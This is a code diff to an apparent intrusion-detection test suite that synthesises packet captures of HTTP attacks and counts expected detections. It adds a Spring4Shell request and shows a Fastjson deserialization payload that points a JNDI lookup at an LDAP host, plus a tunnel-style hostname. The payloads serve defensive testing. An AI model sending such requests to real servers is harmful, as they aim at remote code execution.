@@ -211,6 +211,10 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
     # java_deserialization: Fastjson asked for a JNDI-looking-up class (marshalsec's payload)
     typed = b'{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.18.0.9/x"}}'
     out += http_exchange([http(b"POST", b"/api/orders", [b"Content-Type: application/json"], typed)], 40013)
+    # spring_rce: Spring4Shell's form, pointing Tomcat's access log at a JSP
+    bound = b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
+    form = [b"Content-Type: application/x-www-form-urlencoded"]
+    out += http_exchange([http(b"POST", b"/", form, bound)], 40014)
     slow: Packets = []
     conv = Tcp(slow, T0 + 1, C, 40007, S, 80).handshake()
     conv.send(0, b"GET / HTTP/1.1\r\nHost: shop.example\r\n").wait(15).send(0, b"X-a: 1\r\n").wait(15)
@@ -220,7 +224,7 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
     return out, None, {"sql_injection": 2, "xss": 1, "struts_rce": 1, "http_smuggling": 1,
                        "http_negative_length": 1, "http_slowloris": 1, "log4shell": 1,
                        "path_traversal": 1, "xxe": 1, "ssrf": 1, "crlf_injection": 1,
-                       "java_deserialization": 1}  # fmt: skip
+                       "java_deserialization": 1, "spring_rce": 1}  # fmt: skip
 
 
 TUNNEL_NAME = "p2mwsg3l5a4i7bpnjvwygm4k3lh7yyk6dqjgyvlhjhtoo5sbbc3qabgn6s6etx.t.example.com"
